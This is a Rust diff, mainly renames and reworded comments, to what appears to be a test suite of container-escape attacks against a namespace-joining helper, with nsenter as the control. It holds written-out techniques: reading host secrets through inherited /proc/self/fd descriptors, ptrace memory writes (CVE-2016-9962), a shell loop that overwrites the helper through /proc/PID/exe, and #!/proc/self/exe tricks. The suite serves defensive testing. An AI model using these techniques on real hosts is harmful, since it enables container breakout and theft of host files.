@@ -8,8 +8,8 @@ use std::time::Duration;
 
 use crate::Attack;
 use crate::arm::{
-    ADMIN, Arm, DEFAULT, Fault, Host, STRICT, Seen, Way, answer, bounded, broken, install, nsexec,
-    program, refused, with_open,
+    ADMIN, Arm, DEFAULT, Fault, Host, Outcome, STRICT, Tool, answer, bounded, broken, install,
+    nsexec, program, refused, with_open,
 };
 use crate::running::Running;
 use crate::support::{Build, Target, protocol_a, temporary_directory, text};
@@ -18,12 +18,12 @@ pub(crate) const ATTACKS: &[Attack] = &[
     Attack {
         name: "descriptor-of-proc",
         tries: "read the host's files through a descriptor that the child has open",
-        control: Way::Other("nsenter, whose caller has /proc open"),
+        control: Tool::Other("nsenter, whose caller has /proc open"),
         ways: &[DEFAULT, STRICT, ADMIN],
-        run: |way| {
+        run: |tool| {
             reach_child(
-                way,
-                if way.is_nsexec() {
+                tool,
+                if tool.is_nsexec() {
                     "/dev/null"
                 } else {
                     "/proc"
@@ -35,26 +35,26 @@ pub(crate) const ATTACKS: &[Attack] = &[
     Attack {
         name: "descriptor-of-proc-runtime",
         tries: "the same, while a runtime's initConfig is awaited",
-        control: Way::Other("nsenter, whose caller has /proc open"),
-        ways: &[Way::ProtocolA],
-        run: |way| match way {
-            Way::ProtocolA => reach_protocol_a(),
-            _ => reach_child(way, "/proc"),
+        control: Tool::Other("nsenter, whose caller has /proc open"),
+        ways: &[Tool::ProtocolA],
+        run: |tool| match tool {
+            Tool::ProtocolA => reach_protocol_a(),
+            _ => reach_child(tool, "/proc"),
         },
         quick: true,
     },
     Attack {
         name: "descriptor-of-caller",
         tries: "the same, through a descriptor of the caller's before the exec",
-        control: Way::Nsenter,
+        control: Tool::Nsenter,
         ways: &[DEFAULT, STRICT, ADMIN],
-        run: |way| reach_child(way, "/"),
+        run: |tool| reach_child(tool, "/"),
         quick: true,
     },
     Attack {
         name: "descriptor-in-program",
         tries: "the same, through a descriptor of the caller's in the program",
-        control: Way::Nsenter,
+        control: Tool::Nsenter,
         ways: &[DEFAULT, STRICT, ADMIN],
         run: descriptor_in_program,
         quick: true,
@@ -62,7 +62,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
     Attack {
         name: "directory-on-stdin",
         tries: "leave through a directory of the host's on standard input",
-        control: Way::Nsenter,
+        control: Tool::Nsenter,
         ways: &[DEFAULT, STRICT, ADMIN],
         run: directory_on_stdin,
         quick: true,
@@ -70,7 +70,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
     Attack {
         name: "namespace-on-stdin",
         tries: "leave through a mount namespace of the host's on standard input",
-        control: Way::Nsenter,
+        control: Tool::Nsenter,
         ways: &[DEFAULT, STRICT, ADMIN],
         run: namespace_on_stdin,
         quick: true,
@@ -78,7 +78,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
     Attack {
         name: "memory-of-child",
         tries: "write the memory of the child before it becomes the program",
-        control: Way::Nsenter,
+        control: Tool::Nsenter,
         ways: &[DEFAULT, STRICT, ADMIN],
         run: memory_of_child,
         quick: false,
@@ -86,15 +86,15 @@ pub(crate) const ATTACKS: &[Attack] = &[
     Attack {
         name: "dumpable-once",
         tries: "the same, in a user namespace, while oom_score_adj is written",
-        control: Way::Other("a joiner that is dumpable once"),
-        ways: &[Way::ProtocolA],
+        control: Tool::Other("a joiner that is dumpable once"),
+        ways: &[Tool::ProtocolA],
         run: dumpable_once,
         quick: true,
     },
     Attack {
         name: "own-file",
         tries: "overwrite the host's helper through /proc/PID/exe",
-        control: Way::Nsenter,
+        control: Tool::Nsenter,
         ways: &[DEFAULT, ADMIN],
         run: own_file,
         quick: false,
@@ -102,25 +102,25 @@ pub(crate) const ATTACKS: &[Attack] = &[
     Attack {
         name: "own-file-executed",
         tries: "have the helper executed again, by #!/proc/self/exe",
-        control: Way::BusyboxNsenter,
+        control: Tool::BusyboxNsenter,
         ways: &[DEFAULT, STRICT],
-        run: |way| own_file_executed(way, "/bin/evil"),
+        run: |tool| own_file_executed(tool, "/bin/evil"),
         quick: true,
     },
     Attack {
         name: "own-file-by-link",
         tries: "the same, by a link to /proc/self/exe",
-        control: Way::BusyboxNsenter,
+        control: Tool::BusyboxNsenter,
         ways: &[DEFAULT, STRICT],
-        run: |way| own_file_executed(way, "/bin/itself"),
+        run: |tool| own_file_executed(tool, "/bin/itself"),
         quick: true,
     },
     Attack {
         name: "program-by-descriptor",
         tries: "execute a program of the host's through a declared descriptor",
-        control: Way::Nsenter,
+        control: Tool::Nsenter,
         ways: &[DEFAULT],
-        run: |way| by_descriptor(way, &["-a"], "/proc/self/fd/3/hostile"),
+        run: |tool| by_descriptor(tool, &["-a"], "/proc/self/fd/3/hostile"),
         quick: true,
     },
     Attack {
@@ -128,38 +128,38 @@ pub(crate) const ATTACKS: &[Attack] = &[
         tries: "start in a directory of the host's: -W /proc/self/fd/3",
         control: CD,
         ways: &[DEFAULT, ADMIN],
-        run: |way| by_descriptor(way, &["-a", "-W", "/proc/self/fd/3"], "/bin/hostile"),
+        run: |tool| by_descriptor(tool, &["-a", "-W", "/proc/self/fd/3"], "/bin/hostile"),
         quick: true,
     },
     Attack {
         name: "session-keyring",
         tries: "read a key of the caller's session keyring",
-        control: Way::Nsenter,
+        control: Tool::Nsenter,
         ways: &[DEFAULT, STRICT, ADMIN],
         run: session_keyring,
         quick: true,
     },
 ];
 
-/// A hostile program that waits inside, with every capability or without that
-/// for tracing.
+/// A hostile program that waits in the target, with all capabilities or without
+/// CAP_SYS_PTRACE.
 fn wait_inside(target: &Target, prefix: &[&str], words: &[&str]) -> Running {
     install(target, "reach");
     let words = [&["/bin/reach"], words].concat();
-    let mut command = Way::Nsenter.enter_by(prefix, target.pid(), &["-a"], &words);
+    let mut command = Tool::Nsenter.enter_by(prefix, target.pid(), &["-a"], &words);
     let running = Running::start(&mut command);
-    // It looks around from its first moment on; it has to be there before.
+    // It scans the processes from the start, so it has to run before the helper.
     std::thread::sleep(Duration::from_millis(50));
     running
 }
 
-/// What the child says, once it has ended.
-fn said(attacker: Running) -> Arm {
+/// The output of the attacker after it has ended.
+fn printed(attacker: Running) -> Arm {
     answer(&attacker.output()?)
 }
 
-/// strace(1) that holds each process up: for a third of a second before execve, for a
-/// moment at each step before.
+/// strace(1) that delays each process: by a third of a second before execve, and by a few
+/// milliseconds before each other call.
 const SLOW: [&str; 8] = [
     "strace",
     "-f",
@@ -171,15 +171,15 @@ const SLOW: [&str; 8] = [
     "--",
 ];
 
-/// A tracer in the target, with CAP_SYS_PTRACE, against the child of a join whose
-/// caller has `open` open.
-fn reach_child(way: Way, open: &str) -> Arm {
+/// A tracer in the target, with CAP_SYS_PTRACE, attacks the child of a join. The caller has
+/// the file `open` open.
+fn reach_child(tool: Tool, open: &str) -> Arm {
     let host = Host::new();
     let target = Target::new();
-    let (enter, name) = if way.is_nsexec() {
-        (way, "nsexec")
+    let (enter, name) = if tool.is_nsexec() {
+        (tool, "nsexec")
     } else {
-        (Way::Nsenter, "nsenter")
+        (Tool::Nsenter, "nsenter")
     };
     let attacker = wait_inside(&target, &[], &["paths", name, &host.path("secret")]);
     let slow = enter.enter_by(&SLOW, target.pid(), &["-a"], &["/bin/true"]);
@@ -187,10 +187,10 @@ fn reach_child(way: Way, open: &str) -> Arm {
     if !output.status.success() {
         return broken(format!("{output:?}"));
     }
-    said(attacker)
+    printed(attacker)
 }
 
-/// The child of protocol A waits for as long as the runtime likes.
+/// The child of protocol A waits as long as the runtime does not send initConfig.
 fn reach_protocol_a() -> Arm {
     let host = Host::new();
     let target = Target::new();
@@ -200,42 +200,42 @@ fn reach_protocol_a() -> Arm {
     let message = format!("{}\n", protocol_a::config(&["true"]));
     let pause = |_| std::thread::sleep(Duration::from_millis(500));
     protocol_a::assert_success(&exec.run_meanwhile(message.as_bytes(), pause));
-    said(attacker)
+    printed(attacker)
 }
 
-fn descriptor_in_program(way: Way) -> Arm {
+fn descriptor_in_program(tool: Tool) -> Arm {
     let host = Host::new();
     let target = Target::new();
     install(&target, "hostile");
     let path = format!("/proc/self/fd/9{}", host.path("secret"));
-    let command = way.enter(target.pid(), &["-a"], &["/bin/hostile", "read", &path]);
+    let command = tool.enter(target.pid(), &["-a"], &["/bin/hostile", "read", &path]);
     answer(&bounded(&mut with_open(9, "/", command))?)
 }
 
-fn directory_on_stdin(way: Way) -> Arm {
+fn directory_on_stdin(tool: Tool) -> Arm {
     let host = Host::new();
     let target = Target::new();
     install(&target, "hostile");
     let path = format!("/proc/self/fd/0{}", host.path("secret"));
-    let mut command = way.enter(target.pid(), &["-a"], &["/bin/hostile", "read", &path]);
+    let mut command = tool.enter(target.pid(), &["-a"], &["/bin/hostile", "read", &path]);
     let root = fs::File::open("/").expect("the host's root");
     let output = bounded(command.stdin(root))?;
-    answer(&output).or_else(|fault| match way.is_nsexec() {
+    answer(&output).or_else(|fault| match tool.is_nsexec() {
         true => refused(&output, &["directory"]),
         false => Err(fault),
     })
 }
 
-fn namespace_on_stdin(way: Way) -> Arm {
+fn namespace_on_stdin(tool: Tool) -> Arm {
     let host = Host::new();
     let target = Target::new();
     install(&target, "hostile");
     let secret = host.path("secret");
     let words = ["/bin/hostile", "read-joined", "0", &secret];
-    let mut command = way.enter(target.pid(), &["-a"], &words);
+    let mut command = tool.enter(target.pid(), &["-a"], &words);
     let namespace = fs::File::open("/proc/self/ns/mnt").expect("the host's mount namespace");
     let output = bounded(command.stdin(namespace))?;
-    answer(&output).or_else(|fault| match way.is_nsexec() {
+    answer(&output).or_else(|fault| match tool.is_nsexec() {
         true => refused(&output, &["namespace"]),
         false => Err(fault),
     })
@@ -248,34 +248,39 @@ const WITHOUT_PTRACE: [&str; 3] = [
     "--inh-caps=-sys_ptrace",
 ];
 
-/// CVE-2016-9962: root in the target that is no tracer.
-fn memory_of_child(way: Way) -> Arm {
+/// CVE-2016-9962: root in the target, without CAP_SYS_PTRACE.
+fn memory_of_child(tool: Tool) -> Arm {
     let target = Target::build(&Build {
         prefix: WITHOUT_PTRACE.to_vec(),
         ..Build::default()
     });
-    let name = if way.is_nsexec() { "nsexec" } else { "nsenter" };
+    let name = if tool.is_nsexec() {
+        "nsexec"
+    } else {
+        "nsenter"
+    };
     let attacker = wait_inside(&target, &WITHOUT_PTRACE, &["memory", name, "-"]);
-    // Who has what the attacker lacks is out of reach anyway.
+    // A process with capabilities that the attacker lacks is protected by the kernel
+    // anyway.
     let prefix = [&WITHOUT_PTRACE[..], &SLOW].concat();
-    let output = bounded(&mut way.enter_by(&prefix, target.pid(), &["-a"], &["/bin/true"]))?;
+    let output = bounded(&mut tool.enter_by(&prefix, target.pid(), &["-a"], &["/bin/true"]))?;
     if !output.status.success() {
         return broken(format!("{output:?}"));
     }
-    said(attacker)
+    printed(attacker)
 }
 
-/// Root of the target's user namespace; a child whose prctl(2) takes long.
-fn dumpable_once(way: Way) -> Arm {
+/// Root of the target's user namespace attacks a child whose prctl(2) is delayed.
+fn dumpable_once(tool: Tool) -> Arm {
     let target = Target::with_user_namespace();
-    if way != Way::ProtocolA {
+    if tool != Tool::ProtocolA {
         let attacker = wait_inside(&target, &[], &["memory", "dumpable", "-"]);
         let mut joiner = Command::new(program("dumpable"));
         let output = bounded(joiner.arg(target.pid().to_string()))?;
         if !output.status.success() {
             return broken(format!("{output:?}"));
         }
-        return said(attacker);
+        return printed(attacker);
     }
     let attacker = wait_inside(&target, &[], &["memory", "nsexec", "-"]);
     let mut exec = protocol_a::Exec::into(target.pid());
@@ -299,11 +304,11 @@ fn dumpable_once(way: Way) -> Arm {
     });
     drop(tracer);
     protocol_a::assert_success(&outcome);
-    said(attacker)
+    printed(attacker)
 }
 
-/// Holds /proc/CHILD/exe of whoever comes in open, and writes through that once
-/// the process has gone.
+/// Opens /proc/CHILD/exe of each entering process, and writes through that descriptor after
+/// the process has ended.
 const OVERWRITE: &str = r#"
     n=0
     while [ $n -lt 500 ]; do
@@ -323,7 +328,7 @@ const OVERWRITE: &str = r#"
     done
 "#;
 
-/// A copy of a program at a path of its own, called helper.
+/// A copy of a program in its own directory, named helper.
 fn copy(program: &Path, directory: &Path) -> String {
     let path = directory.join("helper");
     fs::copy(program, &path).expect("a copy");
@@ -331,20 +336,20 @@ fn copy(program: &Path, directory: &Path) -> String {
     path.display().to_string()
 }
 
-fn own_file(way: Way) -> Arm {
+fn own_file(tool: Tool) -> Arm {
     let directory = temporary_directory("own-file");
-    let original = match way {
-        Way::Nsenter => "/usr/bin/nsenter".into(),
+    let original = match tool {
+        Tool::Nsenter => "/usr/bin/nsenter".into(),
         _ => nsexec(),
     };
     let helper = copy(&original, &directory);
     let target = Target::new();
     let words = ["sh", "-c", OVERWRITE];
-    let mut inside = Way::Nsenter.enter(target.pid(), &["-a"], &words);
+    let mut inside = Tool::Nsenter.enter(target.pid(), &["-a"], &words);
     let attacker = Running::start(&mut inside);
     let mut slow = Command::new("strace");
     slow.args(&SLOW[1..]).arg(&helper);
-    if let Way::Nsexec(policy) = way {
+    if let Tool::Nsexec(policy) = tool {
         slow.args(["--policy", policy]);
     }
     slow.args(["-t", &target.pid().to_string(), "-a", "--", "/bin/true"]);
@@ -353,7 +358,7 @@ fn own_file(way: Way) -> Arm {
     let overwritten = fs::read(&helper).expect("the helper") != fs::read(&original).expect("it");
     fs::remove_dir_all(directory).expect("the directory");
     if overwritten {
-        return Ok(Seen::Harm("the file was overwritten".to_owned()));
+        return Ok(Outcome::Harm("the file was overwritten".to_owned()));
     }
     if !output.status.success() {
         return broken(format!("{output:?}"));
@@ -361,50 +366,52 @@ fn own_file(way: Way) -> Arm {
     answer(&attacker)
 }
 
-/// A program of the target's that is the helper.
-fn own_file_executed(way: Way, program: &str) -> Arm {
+/// A program of the target with the content of the helper.
+fn own_file_executed(tool: Tool, program: &str) -> Arm {
     let target = Target::with_script(
         "printf '#!/proc/self/exe\\n' > /bin/evil; chmod +x /bin/evil; ln -s /proc/self/exe /bin/itself",
     );
-    let output = bounded(&mut way.enter(target.pid(), &["-a"], &[program]))?;
-    let said = text(&[output.stdout.as_slice(), &output.stderr].concat());
-    if said.contains("BusyBox") || said.contains("applet not found") {
-        return Ok(Seen::Harm("the host's helper ran in the target".to_owned()));
+    let output = bounded(&mut tool.enter(target.pid(), &["-a"], &[program]))?;
+    let printed = text(&[output.stdout.as_slice(), &output.stderr].concat());
+    if printed.contains("BusyBox") || printed.contains("applet not found") {
+        return Ok(Outcome::Harm(
+            "the host's helper ran in the target".to_owned(),
+        ));
     }
     let reasons = ["Permission denied", "permission denied"];
     refused(&output, &reasons)
 }
 
-/// As a helper starts in a directory that it knows the path of.
-const CD: Way = Way::Other("nsenter, and cd in the target");
+/// The caller's directory is one whose path the attacker can guess.
+const CD: Tool = Tool::Other("nsenter, and cd in the target");
 
-/// The caller has a directory of the host's at descriptor 3, and declares it.
-fn by_descriptor(way: Way, options: &[&str], path: &str) -> Arm {
+/// The caller has a directory of the host open as descriptor 3, and declares it.
+fn by_descriptor(tool: Tool, options: &[&str], path: &str) -> Arm {
     let host = Host::new();
     fs::copy(program("hostile"), host.path("hostile")).expect("a copy");
     let target = Target::new();
     install(&target, "hostile");
-    let declared: &[&str] = if way.is_nsexec() {
+    let declared: &[&str] = if tool.is_nsexec() {
         &["--preserve-fds", "1"]
     } else {
         &[]
     };
     let options = [options, declared].concat();
-    // Once as the program that runs, once as the directory that it runs in.
+    // The directory of the host is once a program's file and once a working directory.
     let words: &[&str] = match path {
         "/bin/hostile" => &[path, "read", "secret"],
         _ => &[path, "executed"],
     };
-    let command = if way == CD {
+    let command = if tool == CD {
         let script = "cd /proc/self/fd/3 && exec /bin/hostile read secret";
-        Way::Nsenter.enter(target.pid(), &["-a"], &["sh", "-c", script])
+        Tool::Nsenter.enter(target.pid(), &["-a"], &["sh", "-c", script])
     } else {
-        way.enter(target.pid(), &options, words)
+        tool.enter(target.pid(), &options, words)
     };
     let directory = host.directory().display().to_string();
     let output: Output = bounded(&mut with_open(3, &directory, command))?;
     match answer(&output) {
-        Err(Fault::Broken(_)) if way.is_nsexec() => refused(
+        Err(Fault::Broken(_)) if tool.is_nsexec() => refused(
             &output,
             &["EACCES", "Permission denied", "/proc/self/fd/3", "ELOOP"],
         ),
@@ -412,7 +419,7 @@ fn by_descriptor(way: Way, options: &[&str], path: &str) -> Arm {
     }
 }
 
-fn session_keyring(way: Way) -> Arm {
+fn session_keyring(tool: Tool) -> Arm {
     let target = Target::new();
     install(&target, "hostile");
     let hostile_here = program("hostile").display().to_string();
@@ -423,6 +430,6 @@ fn session_keyring(way: Way) -> Arm {
         "of-the-host",
     ];
     let words = ["/bin/hostile", "key", "nsexec-attack"];
-    let mut command = way.enter_by(&prefix, target.pid(), &["-a"], &words);
+    let mut command = tool.enter_by(&prefix, target.pid(), &["-a"], &words);
     answer(&bounded(&mut command)?)
 }
